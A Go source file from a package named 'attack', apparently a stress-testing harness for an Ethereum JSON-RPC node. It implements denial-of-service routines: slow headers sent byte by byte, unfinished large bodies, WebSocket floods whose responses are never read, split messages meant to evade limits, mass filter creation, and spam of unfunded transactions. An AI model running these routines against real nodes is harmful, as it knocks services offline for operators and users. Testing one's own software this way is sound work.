// SPDX-License-Identifier: Apache-2.0

package attack

import (
	"context"
	"fmt"
	"io"
	"math/big"
	"strings"
	"time"

	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/core/types"
	"github.com/ethereum/go-ethereum/crypto"
	"github.com/gorilla/websocket"
)

// posting sends the same request again as soon as it is answered.
func posting(text string) func(context.Context, *client) error {
	return func(ctx context.Context, c *client) error { return c.post(ctx, text) }
}

// queryLogs asks for all logs of the contract that has long ones.
func queryLogs(ctx context.Context, c *client) error {
	return c.post(ctx, call("eth_getLogs", `{"fromBlock":"0x0","toBlock":"latest","address":"`+c.target.Logger+`"}`))
}

// sendPoor sends transactions of accounts that have nothing; each costs the node a signature. Every other one offers
// no price either.
func sendPoor(ctx context.Context, c *client) error {
	return c.again(ctx, 20, func() string { return poor(0, 100_000_000_000) })
}

// poor is a request with 100 transactions of an account that has nothing, which offer those prices in turn.
func poor(prices ...int64) string {
	key, err := crypto.GenerateKey()
	if err != nil {
		return ""
	}
	var calls []string
	for nonce := range 100 {
		price := big.NewInt(prices[nonce%len(prices)])
		calls = append(calls, send(key, &types.LegacyTx{Nonce: uint64(nonce), GasPrice: price, Gas: 21_000, To: &common.Address{9}, Value: common.Big1}))
	}
	return batchOf(calls)
}

// slowHeader sends a header byte by byte.
func slowHeader(ctx context.Context, c *client) error {
	conn, err := c.tcp(ctx)
	if err != nil {
		return err
	}
	defer conn.Close()
	for _, b := range []byte("POST / HTTP/1.1\r\nHost: localhost\r\nX-Slow: " + strings.Repeat("x", 10_000)) {
		if _, err := conn.Write([]byte{b}); err != nil {
			return err
		}
		if !wait(ctx, 500*time.Millisecond) {
			return nil
		}
	}
	return nil
}

// unfinishedBody promises 5 MB and sends all but the last byte.
func unfinishedBody(ctx context.Context, c *client) error {
	conn, err := c.tcp(ctx)
	if err != nil {
		return err
	}
	defer conn.Close()
	const size = 5_000_000
	if _, err := fmt.Fprintf(conn, "POST / HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n", size); err != nil {
		return err
	}
	if _, err := io.CopyN(conn, spaces{}, size-1); err != nil {
		return err
	}
	wait(ctx, time.Minute)
	return nil
}

// spaces is a reader of white space without end.
type spaces struct{}

func (spaces) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = ' '
	}
	return len(p), nil
}

// neverRead asks for a thousand long answers and takes none.
func neverRead(ctx context.Context, c *client) error {
	conn, err := c.socket(ctx)
	if err != nil {
		return err
	}
	defer conn.Close()
	echo := call("eth_call", `{"to":"0x0000000000000000000000000000000000000004","gas":"0x2faf080","input":"0x`+strings.Repeat("ab", 40_000)+`"},"latest"`)
	for n := range 1_000 {
		text := echo
		if n%2 == 0 {
			text = call("eth_getBlockByNumber", `"latest",true`)
		}
		_ = conn.SetWriteDeadline(time.Now().Add(20 * time.Second))
		if err := conn.WriteMessage(websocket.TextMessage, []byte(text)); err != nil {
			return err
		}
	}
	wait(ctx, time.Minute)
	return nil
}

// halves sends a call in two messages, so that a server which sees a stream would carry it out past its limits.
func halves(ctx context.Context, c *client) error {
	conn, err := c.socket(ctx)
	if err != nil {
		return err
	}
	defer conn.Close()
	for ctx.Err() == nil {
		cut := len(blake) / 2
		for _, half := range []string{blake[:cut], blake[cut:]} {
			if err := conn.WriteMessage(websocket.TextMessage, []byte(half)); err != nil {
				return err
			}
			if _, _, err := conn.ReadMessage(); err != nil {
				return err
			}
		}
	}
	return nil
}

// installFilters takes all polled filters, and asks them now and then so that they stay.
func installFilters(ctx context.Context, c *client) error {
	for range 300 {
		for _, kind := range []string{"eth_newPendingTransactionFilter", "eth_newBlockFilter"} {
			if err := c.post(ctx, call(kind, "")); err != nil {
				return err
			}
		}
	}
	wait(ctx, time.Second)
	return nil
}

// idle opens a WebSocket and does nothing.
func idle(ctx context.Context, c *client) error {
	conn, err := c.socket(ctx)
	if err != nil {
		wait(ctx, time.Duration(10+c.number%20)*time.Second) // it wants a place, and is no flood of connections
		return err
	}
	defer conn.Close()
	_, _, err = conn.ReadMessage()
	return err
}

// wait is false when ctx has ended.
func wait(ctx context.Context, d time.Duration) bool {
	select {
	case <-time.After(d):
		return true
	case <-ctx.Done():
		return false
	}
}
